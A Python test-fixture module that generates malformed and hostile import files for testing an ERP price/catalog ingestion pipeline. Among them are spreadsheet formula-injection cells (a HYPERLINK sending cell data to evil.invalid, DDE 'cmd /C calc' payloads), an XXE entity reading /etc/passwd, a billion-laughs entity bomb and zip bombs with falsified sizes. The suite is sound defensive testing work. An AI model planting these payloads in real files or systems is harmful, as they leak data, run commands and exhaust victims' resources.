"""The bad-input corpus: every file an ERP, a person or an attacker may drop that is not a
clean export, generated from code at test time (nothing large is committed).

Each generator returns a `BadInput`: the name it is dropped under, its bytes, the flow
folder it goes to and what it is. The good rows of the row-level cases are price rows for
the SKUs `seed_store` creates (`SKU-00001`...), so that a test can assert they landed.

    for bad in corpus():
        bad.write(workdir / "inbox" / bad.flow)
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import openpyxl

__all__ = [
    "BadInput",
    "binary_garbage",
    "corpus",
    "corrupt_xlsx",
    "duplicate_headers",
    "empty_file",
    "entity_expansion_xlsx",
    "external_entity_xlsx",
    "formula_cells_csv",
    "formula_cells_xlsx",
    "good_prices",
    "header_only",
    "hidden_dtd_xlsx",
    "huge_cell",
    "long_name",
    "lying_zip_bomb_xlsx",
    "mixed_encodings",
    "nul_byte_row",
    "prices_xlsx_bytes",
    "sneaky_names",
    "ten_thousand_columns",
    "truncated_xlsx",
    "unbalanced_quotes",
    "zip_bomb_xlsx",
]

PRICE_HEADER = "sku_ref,base_price\n"


@dataclass(frozen=True)
class BadInput:
    name: str
    data: bytes
    what: str
    flow: str = "prices"

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / self.name
        path.write_bytes(self.data)
        return path

    @property
    def size(self) -> str:
        size = len(self.data)
        if size >= 1 << 20:
            return f"{size / (1 << 20):,.1f} MiB"
        return f"{size:,} bytes"


def good_prices(skus: Sequence[int], price: str = "10.50") -> str:
    """Price rows for seeded SKUs: `SKU-00001,10.50`..."""
    return "".join(f"SKU-{i:05d},{price}\n" for i in skus)


# --- whole-file problems -------------------------------------------------------------------


def empty_file() -> BadInput:
    return BadInput("vazio.csv", b"", "an empty file (0 bytes)")


def header_only() -> BadInput:
    return BadInput("so-cabecalho.csv", PRICE_HEADER.encode(), "a header and no data rows")


def binary_garbage(size: int = 64 * 1024) -> BadInput:
    noise = random.Random(20261127).randbytes(size)
    return BadInput("lixo.csv", noise, f"{size:,} random bytes named .csv")


def huge_cell(mib: int = 50) -> BadInput:
    # A 50 MiB value (an unclosed quote in an export does this) between two good rows.
    cell = b"x" * (mib << 20)
    data = PRICE_HEADER.encode() + b"SKU-00001,10.50\nSKU-00002," + cell + b"\nSKU-00003,1\n"
    return BadInput("celula-gigante.csv", data, f"one {mib} MiB cell")


def ten_thousand_columns(columns: int = 10_000) -> BadInput:
    header = ",".join(["sku_ref", "base_price"] + [f"extra_{i}" for i in range(columns - 2)])
    row = ",".join(["SKU-00001", "10.50"] + ["0"] * (columns - 2))
    return BadInput("largo.csv", f"{header}\n{row}\n".encode(), f"{columns:,} columns")


def unbalanced_quotes() -> BadInput:
    # Row 3 opens a quote that nothing closes: the rest of the file would be one value.
    data = PRICE_HEADER + 'SKU-00001,10.50\nSKU-00002,"11.50\nSKU-00003,12.50\n'
    return BadInput("aspas.csv", data.encode(), "a quote opened on row 3 and never closed")


def duplicate_headers() -> BadInput:
    data = "sku_ref,base_price,Base Price\nSKU-00001,10.50,11.00\n"
    return BadInput("cabecalho-duplo.csv", data.encode(), "two headers that both mean base_price")


# --- row-level problems --------------------------------------------------------------------


def nul_byte_row() -> BadInput:
    # One damaged row among good ones, as an ERP that pads a field with NULs writes it.
    data = PRICE_HEADER.encode() + b"SKU-00001,10.50\nSKU-00\x0002,11.50\nSKU-00003,12.50\n"
    return BadInput("nul.csv", data, "a NUL byte inside row 3")


def mixed_encodings() -> BadInput:
    """A UTF-8 catalog export with one row appended by a Windows-1252 system."""
    header = "product_ref,product_name,category,brand,sku_ref,height_cm,width_cm,length_cm,"
    header += "weight_kg,sku_active\n"
    row = "P-{0},Calção Ação {0},Roupas,Marca,NEW-{0},10,10,10,0.5,false\n"
    utf8_rows = "".join(row.format(i) for i in (1, 2, 3))
    cp1252_row = row.format(4)
    data = (header + utf8_rows).encode("utf-8") + cp1252_row.encode("cp1252")
    return BadInput("misto.csv", data, "UTF-8 rows 2-4 and a Windows-1252 row 5", "catalog")


FORMULA_REFS = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)


def formula_cells_csv() -> BadInput:
    """Formula injection in the key column: rows VTEX does not know, and the report
    (which repeats the value) must not turn them into live formulas."""
    bad = "".join(f'"{ref.replace(chr(34), chr(34) * 2)}",10.00\n' for ref in FORMULA_REFS)
    data = PRICE_HEADER + good_prices([1]) + bad + "SKU-00002,=1+1\n"
    return BadInput("formulas.csv", data.encode(), "formula-looking cells in sku_ref and price")


def formula_cells_xlsx() -> BadInput:
    """A workbook as Excel saves it: real formulas with their cached values, and text cells
    that look like formulas."""
    rows = [
        ("sku_ref", "base_price"),
        ("SKU-00001", ("B3*2", "25")),  # a real formula: its cached value is read
        ("SKU-00002", "12.50"),
        (FORMULA_REFS[0], "10"),
        (FORMULA_REFS[1], "10"),
    ]
    return BadInput(
        "formulas.xlsx",
        _xlsx_from_cells(rows),
        "a workbook with a real formula and formula-looking text",
    )


# --- hostile and damaged workbooks ---------------------------------------------------------


def prices_xlsx_bytes(skus: Sequence[int] = (1, 2, 3)) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["sku_ref", "base_price"])
    for i in skus:
        sheet.append([f"SKU-{i:05d}", 10.5])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def truncated_xlsx() -> BadInput:
    data = prices_xlsx_bytes()
    return BadInput("cortado.xlsx", data[: len(data) // 2], "an .xlsx cut in half")


def corrupt_xlsx() -> BadInput:
    def break_sheet(member: str, data: bytes) -> bytes:
        return data[: len(data) // 2] if member == "xl/worksheets/sheet1.xml" else data

    return BadInput(
        "corrompido.xlsx",
        _rewrite(prices_xlsx_bytes(), break_sheet),
        "a valid zip whose sheet XML stops halfway",
    )


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
XXE = b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def entity_expansion_xlsx() -> BadInput:
    return BadInput(
        "risadas.xlsx",
        _with_prolog(prices_xlsx_bytes(), "xl/worksheets/sheet1.xml", BILLION_LAUGHS),
        "billion laughs: 10^9 'lol's from 1 KB of entities",
    )


def external_entity_xlsx() -> BadInput:
    def reference_it(member: str, data: bytes) -> bytes:
        if member != "xl/worksheets/sheet1.xml":
            return data
        return _insert_prolog(data.replace(b"<t>SKU-00001</t>", b"<t>&xxe;</t>", 1), XXE)

    return BadInput(
        "entidade.xlsx",
        _rewrite(prices_xlsx_bytes(), reference_it),
        "an external entity reading /etc/passwd",
    )


def hidden_dtd_xlsx() -> BadInput:
    """The DTD pushed past the first 64 KiB of the part by a long comment."""
    padding = b"<!--" + b" " * (100 << 10) + b"-->"
    return BadInput(
        "risadas-escondidas.xlsx",
        _with_prolog(prices_xlsx_bytes(), "xl/worksheets/sheet1.xml", padding + BILLION_LAUGHS),
        "billion laughs behind a 100 KiB comment",
    )


def zip_bomb_xlsx(inflated_mib: int = 2048) -> BadInput:
    """A real workbook whose sheet part inflates to `inflated_mib` MiB of blank XML from a
    couple of MiB on disk, with honest sizes in its zip directory."""
    members, body = _bomb(inflated_mib)
    return BadInput(
        "bomba.xlsx",
        _zip_with(members, "xl/worksheets/sheet1.xml", body, declared=None),
        f"{inflated_mib:,} MiB of XML in a zip bomb",
    )


def lying_zip_bomb_xlsx(inflated_mib: int = 2048) -> BadInput:
    """The same bomb, but its zip directory claims the part is 4 KiB uncompressed, with the
    CRC of those first 4 KiB: a reader that trusts the directory sees nothing wrong."""
    members, body = _bomb(inflated_mib)
    declared = 4096
    honest = io.BytesIO(_zip_with(members, "s.xml", body, declared=None))
    with zipfile.ZipFile(honest) as zf, zf.open("s.xml") as member:
        first = member.read(declared)
    lie = _Deflated(body.stream, zlib.crc32(first), declared)
    return BadInput(
        "bomba-mentirosa.xlsx",
        _zip_with(members, "xl/worksheets/sheet1.xml", lie, declared=declared),
        f"{inflated_mib:,} MiB zip bomb whose directory says 4 KiB",
    )


@cache  # the slowest part of the corpus (a CRC over 2 GiB): built once per test session
def _bomb(inflated_mib: int) -> tuple[dict[str, bytes], _Deflated]:
    members = _members(prices_xlsx_bytes())
    sheet = members.pop("xl/worksheets/sheet1.xml")
    head, _, tail = sheet.partition(b"<sheetData>")
    return members, _Deflated.of(head + b"<sheetData>", inflated_mib, b"<sheetData>" + tail)


# --- names ---------------------------------------------------------------------------------


def sneaky_names() -> list[BadInput]:
    """Good files under names with spaces, accents and `..` (a valid name on every OS)."""

    def rows(sku: int) -> bytes:  # each its own content, so none is a duplicate of another
        return (PRICE_HEADER + good_prices([sku])).encode()

    return [
        BadInput("preços maio..csv", rows(7), "accents, a space and '..'"),
        BadInput("a b.csv", rows(6), "a space"),
        BadInput("..csv", rows(5), "'..' and a suffix (a hidden name: it starts with '.')"),
        BadInput("...csv", rows(4), "three dots (a hidden name)"),
    ]


def long_name(sku: int = 3) -> BadInput:
    """A good file under a 254-byte name (accents take two bytes each): the longest the
    filesystem allows leaves no room for the timestamp an archived duplicate gets."""
    name = "preços-" + "ç" * 121 + ".csv"
    return BadInput(name, (PRICE_HEADER + good_prices([sku])).encode(), "a 254-byte name")


def corpus() -> list[BadInput]:
    """Every bad input at full size (about 55 MiB in all, generated in about a second)."""
    return [
        empty_file(),
        header_only(),
        binary_garbage(),
        truncated_xlsx(),
        corrupt_xlsx(),
        zip_bomb_xlsx(),
        lying_zip_bomb_xlsx(),
        entity_expansion_xlsx(),
        external_entity_xlsx(),
        hidden_dtd_xlsx(),
        huge_cell(),
        ten_thousand_columns(),
        unbalanced_quotes(),
        nul_byte_row(),
        mixed_encodings(),
        duplicate_headers(),
        formula_cells_csv(),
        formula_cells_xlsx(),
        *sneaky_names(),
        long_name(),
    ]


# --- zip plumbing --------------------------------------------------------------------------


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {info.filename: zf.read(info.filename) for info in zf.infolist()}


def _rewrite(data: bytes, edit: Callable[[str, bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, content in _members(data).items():
            zf.writestr(member, edit(member, content))
    return out.getvalue()


def _with_prolog(data: bytes, member: str, prolog: bytes) -> bytes:
    def insert(name: str, content: bytes) -> bytes:
        return _insert_prolog(content, prolog) if name == member else content

    return _rewrite(data, insert)


def _insert_prolog(content: bytes, prolog: bytes) -> bytes:
    """`prolog` before the root element (after the XML declaration, if there is one)."""
    if content.startswith(b"<?xml"):
        head, _, rest = content.partition(b"?>")
        return head + b"?>" + prolog + rest
    return prolog + content


@dataclass(frozen=True)
class _Deflated:
    """A raw deflate stream with its CRC and sizes, built without deflating gigabytes."""

    stream: bytes
    crc: int
    size: int

    @classmethod
    def of(cls, head: bytes, filler_mib: int, tail: bytes) -> _Deflated:
        # After a full flush the compressor starts afresh, so every MiB of blanks compresses
        # to the very same bytes: compress one and repeat it.
        chunk = b" " * (1 << 20)
        first = zlib.compressobj(9, zlib.DEFLATED, -15)
        start = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
        second = zlib.compressobj(9, zlib.DEFLATED, -15)
        block = second.compress(chunk) + second.flush(zlib.Z_FULL_FLUSH)
        last = zlib.compressobj(9, zlib.DEFLATED, -15)
        end = last.compress(tail) + last.flush(zlib.Z_FINISH)
        crc = zlib.crc32(head)
        for _ in range(filler_mib):
            crc = zlib.crc32(chunk, crc)
        crc = zlib.crc32(tail, crc)
        stream = start + block * filler_mib + end
        return cls(stream, crc, len(head) + filler_mib * len(chunk) + len(tail))


def _zip_with(
    members: dict[str, bytes], name: str, body: _Deflated, *, declared: int | None
) -> bytes:
    """`members` zipped normally, plus `name` with a pre-deflated body whose uncompressed
    size is written as `declared` (None: the true size)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, content in members.items():
            zf.writestr(member, content)
    plain = out.getvalue()
    directory_at = plain.rfind(b"PK\x05\x06")
    (count,) = struct.unpack_from("<H", plain, directory_at + 10)
    (cd_size, cd_offset) = struct.unpack_from("<II", plain, directory_at + 12)
    local_part = plain[:cd_offset]
    central = plain[cd_offset : cd_offset + cd_size]

    size = body.size if declared is None else declared
    encoded = name.encode()
    offset = len(local_part)
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, body.crc, len(body.stream), size,
        len(encoded), 0,
    )  # fmt: skip
    entry = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, body.crc, len(body.stream),
        size, len(encoded), 0, 0, 0, 0, 0, offset,
    )  # fmt: skip
    new_local = local_part + local + encoded + body.stream
    new_central = central + entry + encoded
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count + 1, count + 1, len(new_central), len(new_local), 0
    )
    return new_local + new_central + end


def _xlsx_from_cells(rows: Sequence[tuple[object, ...]]) -> bytes:
    """A minimal workbook written as Excel writes it: inline strings, and formulas as
    `<f>` with the value Excel cached in `<v>` (openpyxl cannot write cached values)."""
    xml_rows = []
    for r, row in enumerate(rows, start=1):
        cells = []
        for c, value in enumerate(row):
            ref = f"{chr(ord('A') + c)}{r}"
            if isinstance(value, tuple):
                formula, cached = value
                cells.append(f'<c r="{ref}"><f>{_xml(formula)}</f><v>{cached}</v></c>')
            else:
                text = _xml(str(value))
                cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>')
        xml_rows.append(f'<row r="{r}">{"".join(cells)}</row>')
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{''.join(xml_rows)}</sheetData></worksheet>"
    )
    members = _members(prices_xlsx_bytes())
    members["xl/worksheets/sheet1.xml"] = sheet.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for member, content in members.items():
            zf.writestr(member, content)
    return out.getvalue()


def _xml(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )
